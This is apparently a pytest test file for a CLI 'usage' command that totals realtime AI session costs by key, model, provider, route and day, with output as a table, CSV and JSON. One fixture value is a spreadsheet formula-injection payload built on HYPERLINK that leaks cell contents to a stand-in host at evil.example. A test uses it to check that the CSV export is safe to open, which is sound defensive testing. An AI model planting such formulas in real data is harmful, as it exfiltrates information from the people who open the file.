"""`usage`: sums by each name and over any time, as a table, as CSV that a spreadsheet runs nothing of, and as JSON."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cli.__main__ import app
from cli.errors import Failure
from realtime.billing import rows
from store.log import Log

TOKENS = {"unit": "token", "rate": 4.0, "per": 1_000_000, "source": "list", "date": ""}
IN = {"item": "text_in", "quantity": 1000, "usd": 0.004, **TOKENS}
OUT = {"item": "audio_out", "quantity": 50, "usd": 0.0002, **TOKENS}
CACHED = {"item": "cached_text", "quantity": 7, "usd": 0.1, **TOKENS}
TIME = {"item": "connection", "quantity": 90, "unit": "second", "rate": 0.02, "per": 60, "usd": 0.03, "source": "", "date": ""}
UNKNOWN = {"item": "audio_in", "quantity": 500, "usd": None, **TOKENS, "rate": None}
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
SESSIONS = {
    "ses_a": ("kiosk", "openai", "gpt-realtime", "eu", "2025-11-20T23:59:00.000Z", [IN, OUT]),
    "ses_b": ("kiosk", "xai", "grok", None, "2025-11-21T10:00:00.000Z", [TIME]),
    "ses_c": ("lab", "openai", "gpt-realtime", "eu", "2025-11-21T11:00:00.000Z", [IN, CACHED, UNKNOWN]),
    "ses_d": ("lab", "home", FORMULA, None, "2025-11-22T08:00:00.000Z", [UNKNOWN]),
}


def record(name: str) -> dict[str, Any]:
    key, provider, model, route, ended, lines = SESSIONS[name]
    started = f"{ended[:11]}07:00:00.000Z"
    known = [line["usd"] for line in lines if line["usd"] is not None]
    cost = {"usd": sum(known) if known else None, "priced": True, "partial": False, "source": "", "date": "", "lines": lines}
    return {
        "id": name,
        "principal": key,
        "provider": provider,
        "model": model,
        "route": route,
        "started_at": started,
        "ended_at": ended,
        "cost": cost,
        "error": None,
    }


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Four sessions, the third without rows, as an older version leaves them, and one that is live."""
    folder = tmp_path_factory.mktemp("usage")
    log = Log.open(folder)
    for name in SESSIONS:
        made = record(name)
        log.session_opened({**made, "ended_at": None})
        log.session_closed(name, {"ended_at": made["ended_at"]})
        for row in rows(made) if name != "ses_c" else ():
            log.billed(row)
    log.session_opened({**record("ses_a"), "id": "ses_live", "principal": "live", "ended_at": None})
    log.close()
    return folder


def run(data: Path, *words: str) -> str:
    result = CliRunner().invoke(app, ["usage", *words, "--data", str(data)])
    if isinstance(result.exception, Failure):
        raise result.exception
    assert result.exit_code == 0, result.output
    return result.stdout


def found(data: Path, *words: str) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(run(data, "--json", *words))
    return made


def test_by_key(data: Path) -> None:
    made = found(data)
    assert (made["by"], [row["key"] for row in made["rows"]]) == ("key", ["lab", "kiosk", "live"])
    lab, kiosk, live = made["rows"]
    assert (kiosk["sessions"], kiosk["tokens_in"], kiosk["tokens_out"], kiosk["seconds"]) == (2, 1000, 50, 90)
    assert (kiosk["usd"], kiosk["unpriced"]) == (0.0342, 0)
    assert (lab["usd"], lab["unpriced"], lab["tokens_in"]) == (0.104, 2, 2007)
    assert live["usd"] == 0.0042
    assert made["total"]["usd"] == pytest.approx(0.1424)


@pytest.mark.parametrize(
    ("by", "names"),
    [
        ("model", ["gpt-realtime", "grok", FORMULA]),
        ("provider", ["openai", "xai", "home"]),
        ("route", ["eu", "-"]),
    ],
)
def test_by_other_names_the_dearest_first(data: Path, by: str, names: list[str]) -> None:
    made = found(data, "--by", by)
    assert [row[by] for row in made["rows"]] == names
    assert sum(row["usd"] or 0 for row in made["rows"]) == pytest.approx(made["total"]["usd"])


def test_by_day_in_order(data: Path) -> None:
    days = found(data, "--by", "day", "--until", "2025-11-22")["rows"]
    assert [(row["day"], row["sessions"]) for row in days] == [("2025-11-20", 1), ("2025-11-21", 2), ("2025-11-22", 1)]


@pytest.mark.parametrize(
    ("words", "sessions"),
    [
        (("--since", "2025-11-21", "--until", "2025-11-21"), 2),
        (("--until", "2025-11-20"), 1),
        (("--since", "2025-11-21T10:00:00Z", "--until", "2025-11-21T11:00:00Z"), 1),
        (("--since", "2025-11-21T11:00:00+01:00", "--until", "2025-11-21T11:00:00.001Z"), 2),
        (("--until", "2020-01-01"), 0),
    ],
)
def test_a_stretch_of_time(data: Path, words: tuple[str, ...], sessions: int) -> None:
    assert found(data, *words)["total"]["sessions"] == sessions


def test_csv_is_safe_to_open(data: Path) -> None:
    made = list(csv.DictReader(io.StringIO(run(data, "--by", "model", "--csv"))))
    assert [row["model"] for row in made] == ["gpt-realtime", "grok", "'" + FORMULA]
    assert sum(float(row["usd"] or 0) for row in made) == pytest.approx(0.1424)
    assert made[2]["usd"] == "", "unpriced is not 0"


def test_the_table_says_what_has_no_price(data: Path) -> None:
    lines = run(data, "--by", "key", "--until", "2025-11-22").splitlines()
    assert lines[0].split() == ["key", "sessions", "tokens", "in", "tokens", "out", "time", "messages", "cost"]
    assert "$0.104000+ (2 unpriced)" in lines[1]
    assert lines[-1].startswith("total")
    (home,) = [line for line in run(data, "--by", "provider").splitlines() if line.startswith("home")]
    assert home.endswith("unpriced")


def test_an_empty_log_has_used_nothing(tmp_path: Path) -> None:
    assert found(tmp_path)["total"]["usd"] == 0
    assert run(tmp_path, "--csv").count("\n") == 1


@pytest.mark.parametrize("words", [("--since", "yesterday"), ("--until", "2025-11-21T10:00:00"), ("--csv", "--json")])
def test_what_cannot_be_read_is_said(data: Path, words: tuple[str, ...]) -> None:
    with pytest.raises(Failure) as failure:
        run(data, *words)
    assert failure.value.code == "VT105"
